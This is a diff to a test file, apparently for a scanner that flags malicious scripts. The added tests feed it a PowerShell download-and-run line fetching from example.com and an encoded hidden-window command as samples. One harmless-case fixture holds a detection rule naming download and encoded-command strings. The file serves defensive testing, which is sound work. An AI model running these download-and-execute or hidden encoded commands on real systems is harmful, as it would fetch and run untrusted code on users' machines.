@@ -138,6 +138,13 @@ suite('an encoded script', () => {
   })
 })
 
+test('a script without a name is told by its first statement', () => {
+  const run = `$b = [Convert]::FromBase64String($a)\nIEX ($w.DownloadString('http://example.com/a'))\n`
+  const texts = ['$a = 1', '[Ref].Assembly', 'Write-Output 1', 'param($x)']
+  for (const first of texts)
+    has(Buffer.from(`${first}\n$w = New-Object Net.WebClient\n$c = 1\n$d = 2\n${run}`), 'Script.Dropper')
+})
+
 suite('a text that is a command', () => {
   const encoded = Buffer.from('echo 1', 'utf16le').toString('base64')
   test('is suspicious', () => has(Buffer.from(`powershell.exe -NoP -W Hidden -Enc ${encoded}\n`), 'Script.Command'))
@@ -187,6 +194,12 @@ suite('harmless', () => {
       packed(
         'info.vbs',
         'Set w = GetObject("winmgmts:\\\\.\\root\\cimv2")\r\nFor Each i In w.ExecQuery("Select * from Win32_ComputerSystem")\r\nWScript.Echo i.Name\r\nNext\r\n',
+      ),
+    ],
+    [
+      'rules that quote scripts',
+      Buffer.from(
+        'rule Download {\n  meta:\n    author = "team"\n  strings:\n    $a = "DownloadString(" nocase\n    $b = "-EncodedCommand"\n    $c = "FromBase64String"\n    $d = "Start-Process"\n  condition:\n    2 of them\n}\n',
       ),
     ],
     ['a table with commands', Buffer.from('name,command\nshell,"CreateObject(""WScript.Shell"")"\n')],
